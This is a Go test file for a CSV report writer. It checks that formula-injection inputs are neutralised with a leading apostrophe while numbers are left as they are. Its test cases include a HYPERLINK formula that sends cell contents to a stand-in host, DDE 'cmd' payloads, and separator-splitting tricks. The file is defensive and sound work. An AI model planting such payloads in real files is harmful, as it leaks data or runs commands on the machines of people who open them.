package export

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// Goal: a CSV report opened in a spreadsheet never runs a formula taken
// from input (CSV/formula injection, OWASP): an account id, venue id,
// scenario or asset name, or a note. Numbers, negative ones included, are
// written as they are, so a dataframe still reads them as numbers. Method:
// write one row per case and read it back with encoding/csv (RFC 4180);
// TestSpreadsheetRunsNoFormula opens the same cells in LibreOffice Calc.
//
// What a spreadsheet parses, decided with LibreOffice Calc 7.4 (its CSV
// import, comma, semicolon and tab separators, formulas evaluated):
//   - a cell beginning with = is run; one beginning with blanks then = is
//     text in Calc but other spreadsheets trim blanks, so both are
//     neutralised, as OWASP asks for =, +, -, @, tab and CR;
//   - a , inside a cell is safe: encoding/csv quotes the cell and a
//     comma-separated import keeps it whole;
//   - a ; or a tab inside a cell is not quoted by encoding/csv, and a
//     semicolon (a comma-decimal locale's list separator) or tab import
//     splits the row there: "a;=1+1" ran =1+1. Quoting would not help: the
//     quote opens a field only at the start of a line, so under another
//     separator the cell's quotes are literal;
//   - for the same reason a CR or LF inside a (quoted) cell ends the line
//     under another separator: "a\r=1+1" ran =1+1 with semicolons;
//   - a leading " is kept by Calc (text), but a spreadsheet that strips it
//     would see the =, so it is skipped like a blank.
//
// So a cell is neutralised by a leading apostrophe (spreadsheets read it as
// "this cell is text" and do not show it), and every ;, tab, CR or LF
// followed (after blanks and quotes) by =, +, - or @ is followed by an
// apostrophe too, which starts the cell a re-split makes.
func TestWriteNeutralisesFormulas(t *testing.T) {
	for _, c := range injectionCases {
		var buf bytes.Buffer
		if err := Write(&buf, []Row{{Section: c.in, Venue: c.in, Key: c.in, Field: c.in, Value: c.in}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q: %v %q", c.in, err, recs)
		}
		for i, cell := range recs[1] {
			if cell != c.want {
				t.Errorf("%q (%s): column %s is %q, want %q", c.in, c.why, Header[i], cell, c.want)
			}
		}
	}
}

// injectionCases are TestWriteNeutralisesFormulas's cells: what goes in,
// what a CSV reader reads back, and why.
var injectionCases = []struct{ in, want, why string }{
	{`=HYPERLINK("http://x.example/?"&A1,"x")`, `'=HYPERLINK("http://x.example/?"&A1,"x")`, "a formula"},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "+ starts a formula (DDE)"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)", "@ starts a formula"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "- starts a formula"},
	{"\t=1+1", "'\t'=1+1", "a leading tab; and the tab re-splits under a tab import"},
	{"\r=1+1", "'\r'=1+1", "a leading CR; and the CR ends the line under another separator"},
	{"-", "'-", "- alone is not a number"},
	{" =1+1", "' =1+1", "blanks, then a formula: a spreadsheet may trim the blanks"},
	{"   @x", "'   @x", "blanks, then @"},
	{"\u00a0=1+1", "'\u00a0=1+1", "a no-break space is a blank too"},
	{`"=1+1"`, `'"=1+1"`, "a leading quote a spreadsheet may strip"},
	{`" -x`, `'" -x`, "a quote and a blank, then -"},
	{"a;=1+1", "a;'=1+1", "a semicolon import splits the row at the ;: the new cell would run =1+1"},
	{"a; =1+1", "a;' =1+1", "the same after a blank"},
	{`a;"=1+1"`, `a;'"=1+1"`, "the same after a quote"},
	{"a;=1;@x;-y", "a;'=1;'@x;'-y", "every ; that starts a formula"},
	{"x;-12.5", "x;'-12.5", "a re-split cell runs on into the next cells: not a number, neutralised"},
	{"a\t+1", "a\t'+1", "a tab import splits at the tab"},
	{"a\n=1+1", "a\n'=1+1", "an LF ends the line under another separator"},
	{"a\r\n-1", "a\n'-1", "CR LF: the apostrophe goes after the LF, which starts the line (encoding/csv reads CR LF back as LF)"},
	{"a,=1+1", "a,=1+1", "a , inside a cell is quoted by encoding/csv: a comma import keeps the cell whole"},
	{"a;'=1+1", "a;'=1+1", "already text after the ;"},
	{"a;b", "a;b", "a ; followed by text"},
	{"BTC -16% vol up", "BTC -16% vol up", "a blank is not a separator: scenario names keep their -"},
	{"treasury", "treasury", "plain text"},
	{"", "", "empty"},
	{"-20", "-20", "a negative number stays a number"},
	{"-12.5", "-12.5", "a negative number stays a number"},
	{"1e-9", "1e-9", "an exponent is a number"},
	{"-1.5e-7", "-1.5e-7", "a negative number with an exponent"},
	{"-0", "-0", "negative zero (JSON's form)"},
	{"1e+21", "1e+21", "encoding/json's large numbers"},
	{"  -5", "  -5", "blanks, then a number: Calc reads the number -5"},
	{"+1", "'+1", "not how a report writes a number: text"},
}
